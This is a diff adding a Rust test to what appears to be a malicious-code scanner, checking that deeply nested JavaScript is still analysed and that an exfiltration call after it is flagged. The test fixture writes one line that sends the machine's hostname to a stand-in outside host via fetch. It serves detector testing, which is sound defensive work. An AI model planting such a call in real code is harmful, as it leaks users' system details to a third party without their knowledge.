@@ -135,6 +135,24 @@ fn odd_files_are_survived() {
 }
 
 #[test]
+fn nesting_past_the_worker_stack_is_analysed_not_fatal() {
+    // 300 000 levels overflowed the 256 MiB worker stack (found by fuzzing at 8 MiB); such
+    // code now runs on a thread with a stack to match, and what follows it is still found.
+    let dir = tempfile::tempdir().unwrap();
+    let code = format!("var x = {}1{};\nfetch('https://x.example/?h=' + require('os').hostname());", "(".repeat(300_000), ")".repeat(300_000));
+    write(dir.path(), "deep.js", code.as_bytes());
+    let strings = format!("var s = '{}'; require('os').hostname();", "[".repeat(3_000_000));
+    write(dir.path(), "brackets_in_a_string.js", strings.as_bytes());
+    let (out, doc) = scan_json([dir.path()]);
+    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    let findings = doc["targets"][0]["findings"].as_array().unwrap();
+    assert!(findings.iter().any(|f| f["file"] == "deep.js" && f["category"] == "exfiltration"), "{findings:?}");
+    // Past 2 000 000 levels (counted naively, strings included) the file is reported unparsed.
+    let warnings = doc["targets"][0]["warnings"].to_string();
+    assert!(warnings.contains("brackets_in_a_string.js") && warnings.contains("nest"), "{warnings}");
+}
+
+#[test]
 fn odd_python_files_are_survived() {
     let dir = tempfile::tempdir().unwrap();
     write(dir.path(), "empty.py", b"");
